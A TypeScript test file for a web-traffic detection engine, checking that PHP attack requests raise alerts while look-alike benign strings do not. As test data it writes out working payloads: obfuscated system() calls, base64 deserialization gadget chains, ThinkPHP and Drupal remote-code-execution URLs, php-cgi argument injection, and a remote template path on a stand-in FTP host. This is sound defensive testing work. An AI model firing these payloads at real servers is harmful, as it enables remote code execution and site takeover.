import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
import { base64Text } from '@/runtime/analyzer/engine/detection/decode';
import { ruleScore } from '@/runtime/analyzer/engine/detection/scoring';
import type { ValueLocation } from '@/runtime/analyzer/engine/detection/types';
import { buildExchange } from '@/test/fixtures/traffic';

const context = { sensorId: 'sensor-1', sensorTags: [] };
/** The rules a value matches, as `id`. */
const idsOf = (value: string, location: ValueLocation = 'query', name = 'q'): number[] =>
  inspectValue(new InspectedValue(location, name, value)).map((r) => r.id);
const scoreOf = (value: string, location: ValueLocation = 'query', name = 'q'): number =>
  inspectValue(new InspectedValue(location, name, value)).reduce((sum, r) => sum + ruleScore(r), 0);

/** The rule ids of the MatchEvent a request raises at level 1 (none: []). */
function alertIds(spec: Parameters<typeof buildExchange>[0]): number[] {
  const events = createAnalysisEngine({ catalog: false, detectionLevel: 1 }).analyze(buildExchange(spec), context);
  const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
  return match ? match.matches.map((m) => m.id) : [];
}

describe('PHP: functions called by a name built at run time', () => {
  it.each([
    '("sys"."tem")("id");',
    '"\\x73\\x79\\x73\\x74\\x65\\x6d"("id");',
    "'shell_exec'('whoami')",
    "('pass'.'thru')($_GET['c']);",
    "$a=str_rot13('flfgrz');$a('id');",
    '$f = strrev("tressa"); @$f($_POST[0]);',
    "$x = 'sy'.'stem'; $x('cat /etc/passwd');",
    "$_=${'_'.'GET'};$_[0]($_[1]);",
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    '@$_GET[0]($_GET[1]);',
    // A name decoded, or two strings XORed, and called at once; a command function handed to a callback runner.
    "(strrev('metsys'))('id');",
    '("\x13\x19\x13\x14\x05\x0d"^"``````")("id");',
    "array_filter(['id'],'system');",
    "(new ReflectionFunction('system'))->invoke('id');",
  ])('%s alerts at level 1', (payload) => {
    expect(scoreOf(payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    'He said "system" (the OS) is slow',
    'Click "copy" ("Ctrl+C") to duplicate',
    'Items: ${name}(${count})',
    "{{ $t('checkout.title') }}",
    '$scope[fn]($event)',
    "x.split('.').join('-')",
    'a ^ b',
    "'^' or '$'",
    "use array_filter($rows, 'trim') to clean",
    "trim('x') and more",
  ])('%s does not', (benign) => {
    expect(idsOf(benign)).toEqual([]);
  });
});

describe("PHP: a call inside complex string interpolation (`{${sleep(5)}}`, run where a template is eval'd)", () => {
  it('alerts at level 1', () => {
    expect(idsOf('Thanks {${sleep(5)}}', 'body_form', 'footer')).toContain(410102);
    expect(scoreOf('{${system($_GET[c])}}')).toBeGreaterThanOrEqual(5);
  });

  it('leaves JSX and template literals alone', () => {
    expect(idsOf('const a = {${x}}')).toEqual([]);
    expect(idsOf('className={`${styles.card}`}')).toEqual([]);
  });
});

describe('PHP: data: URIs holding PHP code', () => {
  it('reads every form of the data wrapper when its content is PHP code', () => {
    expect(idsOf('data:;base64,PD9waHAgcGhwaW5mbygpOz8+')).toContain(410103);
    expect(idsOf('data:text/plain;base64,PD89YGlkYDs/Pg==')).toContain(410103);
    expect(idsOf('data://text/plain;base64,PD9QSFAgc3lzdGVtKCdpZCcpOw==')).toContain(410103);
  });

  it('leaves images and other data URIs alone', () => {
    expect(idsOf('data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+PHN2Zy8+')).toEqual([]);
    expect(idsOf('data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk')).toEqual([]);
  });
});

describe('PHP: serialized objects in base64', () => {
  const pendingBroadcast =
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\0*\0events";O:15:"Faker\\Generator":1:{s:13:"\0*\0formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\0*\0event";s:2:"id";}';

  it('unwraps base64 text with the NULs of protected and private property names', () => {
    expect(base64Text(Buffer.from(pendingBroadcast).toString('base64'))).toBe(pendingBroadcast);
    // UTF-16 text and binary data have far more NULs than that.
    expect(base64Text(Buffer.from('hello world, a longer text', 'utf16le').toString('base64'))).toBeUndefined();
  });

  it('finds the object in a cookie and in a JSON field', () => {
    const cookie = Buffer.from(pendingBroadcast).toString('base64');
    expect(alertIds({ target: '/cart', requestHeaders: [['Cookie', `cart=${cookie}`]] })).toContain(410104);
    const jar = 'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:41:"\0GuzzleHttp\\Cookie\\FileCookieJar\0filename";s:23:"/var/www/html/shell.php";}';
    const body = JSON.stringify({ wizard: { state: Buffer.from(jar).toString('base64') } });
    expect(alertIds({ method: 'POST', target: '/api/wizard', requestHeaders: [['Content-Type', 'application/json']], requestBody: body })).toContain(410104);
  });

  it("finds an object a multipart file name carries in PHP's reading (escaped quotes), inside a session record's string", () => {
    const filename = 'x|b:0;preferences|s:182:\\"a:3:{i:0;s:57:\\".O:16:\\"Crypt_GPG_Engine\\":1:{s:26:\\"_gpgconf\\";s:6:\\"id;#\\";}\\";}\\";';
    const requestBody = `--XX\r\nContent-Disposition: form-data; name="_file[]"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XX--\r\n`;
    expect(
      alertIds({
        method: 'POST',
        target: '/?_task=settings&_action=upload',
        requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
        requestBody,
      }),
    ).toContain(410104);
    expect(idsOf('release v2.O:1 notes')).not.toContain(410104);
  });
});

describe('PHP: requests that make a framework call what the attacker names', () => {
  it('ThinkPHP: a route to a core class, raw or encoded, and the method override to a magic method', () => {
    const invoke = '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id';
    expect(alertIds({ target: invoke })).toEqual(expect.arrayContaining([410107, 410109]));
    expect(alertIds({ target: '/index.php?s=index/%5Cthink%5CContainer/invokefunction' })).toContain(410107);
    expect(alertIds({ target: '/index.php/index/%5Cthink%5Crequest/input?data=id&filter=system' })).toContain(410107);
    const construct = '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id';
    expect(
      alertIds({
        method: 'POST',
        target: '/index.php?s=captcha',
        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
        requestBody: construct,
      }),
    ).toContain(410109);
  });

  it('a function named as a word (`f=system`, `filter=system`) or a Windows path is not enough alone', () => {
    expect(alertIds({ target: '/s.php?f=system&c=id' })).toEqual([]);
    expect(alertIds({ target: '/logs?filter=system&method=post' })).toEqual([]);
    expect(idsOf('C:\\think\\notes.txt')).toEqual([]);
  });

  it('Drupal: a render-array callback property in a form field name', () => {
    const form = (body: string) =>
      alertIds({
        method: 'POST',
        target: '/user/register?element_parents=account/mail/%23value&ajax_form=1',
        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
        requestBody: body,
      });
    expect(form('form_id=user_register_form&mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id')).toContain(410108);
    expect(form('form_id=user_register_form&timezone[a][%23lazy_builder][]=passthru&timezone[a][%23lazy_builder][][]=id')).toContain(410108);
    expect(idsOf('see [#process](https://example.com/tags/process)')).toEqual([]);
  });
});

describe('PHP: php-cgi argument injection', () => {
  it('a -d argument in the query string, with a hyphen or a soft hyphen, apart or attached', () => {
    expect(alertIds({ target: '/cgi-bin/php?%2dd+allow_url_include%3don+%2dd+auto_prepend_file%3d/etc/passwd' })).toContain(410110);
    expect(alertIds({ target: '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input' })).toContain(410110);
    expect(alertIds({ target: '/index.php?-dallow_url_include%3d1+-dauto_prepend_file%3dphp://input' })).toContain(410110);
  });

  it('a query string of options alone, which php-cgi takes as its command line', () => {
    for (const target of ['/index.php?-s', '/cgi-bin/php?%ADs', '/index.php?-n+-s', '/index.php?%2Di'])
      expect({ target, ids: alertIds({ target }) }).toEqual({ target, ids: [410111] });
    for (const target of ['/search?-', '/search?-tag', '/list?sort=-s', '/a?-1', '/a?x&-s', '/search?q=--help', '/x?--=1'])
      expect({ target, ids: alertIds({ target }) }).toEqual({ target, ids: [] });
  });

  it("a query string that opens with a long option, which register_argc_argv puts in a console application's $argv", () => {
    expect(alertIds({ target: '/index.php?--templatesPath=ftp://anonymous:x@198.51.100.52:2121/' })).toContain(410111);
    expect(alertIds({ target: '/index.php?%2d%2dconfigPath%3d/tmp/x' })).toContain(410111);
  });

  it('a directive in a php.ini question or a configuration editor does not alert', () => {
    expect(idsOf('how to set allow_url_fopen = on in php.ini')).toEqual([]);
    expect(idsOf('disable_functions = exec not working')).toEqual([]);
    expect(idsOf('memory_limit = 256M\nauto_prepend_file = /srv/app/bootstrap.php', 'body_form', 'ini')).toEqual([]);
  });
});

describe('PHP: request variables that overwrite superglobals, FastCGI settings, variable-function web shells', () => {
  it('a parameter, form field or cookie named like a superglobal, or such an assignment in a value parse_str() reads', () => {
    expect(alertIds({ target: '/members/home.php?_SESSION[user_id]=1&_SESSION[is_admin]=1' })).toContain(410112);
    expect(alertIds({ target: '/install/index.php?GLOBALS%5Bdb_config%5D%5Bhost%5D=203.0.113.66' })).toContain(410112);
    const form = { method: 'POST', target: '/admin/login.php', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']] as const };
    expect(alertIds({ ...form, requestBody: 'user=admin&_SERVER%5BREMOTE_ADDR%5D=127.0.0.1' })).toContain(410112);
    expect(idsOf('_SESSION[role]=admin&_SESSION[uid]=1', 'query', 'prefs')).toContain(410112);
    expect(alertIds({ target: '/docs?q=_SESSION%5Bx%5D&session=1&_get=2' })).toEqual([]);
  });

  it('a PHP_VALUE line break setting a directive (CVE-2019-11043), in a path or a gopher payload', () => {
    expect(alertIds({ target: '/index.php/PHP_VALUE%0Aauto_prepend_file=/tmp/a;;;;;;?QQQQ' })).toContain(410113);
    expect(idsOf('gopher://127.0.0.1:9000/_%01%01PHP_ADMIN_VALUE%0Eallow_url_include = On')).toContain(410113);
    expect(idsOf('How do I set PHP_VALUE in an nginx config?')).not.toContain(410113);
  });

  it("a string break-out that concatenates a call into a string a script evals ('.print(md5(31337)).')", () => {
    expect(idsOf("'.print(md5(31337)).'")).toContain(410115);
    expect(idsOf('shoes".phpinfo()."')).toContain(410115);
    // PHP pasted with its own text around it is a snippet.
    expect(idsOf("echo 'Hello '.strtoupper($name).'!'")).not.toContain(410115);
    expect(idsOf("'a'.b('c').'d' and more")).not.toContain(410115);
  });

  it('one parameter names a command function and another holds a first command for it', () => {
    expect(alertIds({ target: '/uploads/cache.php?0=system&1=id' })).toContain(410114);
    expect(alertIds({ target: '/images/thumb.php?a=passthru&b=uname+-a' })).toContain(410114);
    expect(alertIds({ target: '/api/transform.php?fn=array_map&cb=system&items[]=id' })).toContain(410114);
    for (const target of ['/settings?theme=system&sort=id', '/x?mode=exec&id=ls', '/report?source=system&view=dir'])
      expect({ target, ids: alertIds({ target }) }).toEqual({ target, ids: [] });
  });
});

describe("PHP: C and C++ programs that call the C library's system()", () => {
  const php = (value: string) => idsOf(value, 'body_json', 'code').filter((id) => id === 400108 || id === 410101);

  it.each([
    ['C', '#include <stdio.h>\n#include <stdlib.h>\n\nint main(void) {\n    puts("done");\n    system("pause");\n    return 0;\n}'],
    ['C++', '#include <iostream>\nusing namespace std;\nint main() {\n  cout << "Hello";\n  system("cls");\n}'],
  ])('a %s program is no PHP call', (_language, code) => {
    expect(php(code)).toEqual([]);
  });

  it.each([["system('id')"], [";system('id');"], ["'.system('id').'"], ['#include <stdio.h>\n<?php system($_GET["c"]); ?>']])('%s still is', (payload) => {
    expect(idsOf(payload)).toContain(400108);
  });
});
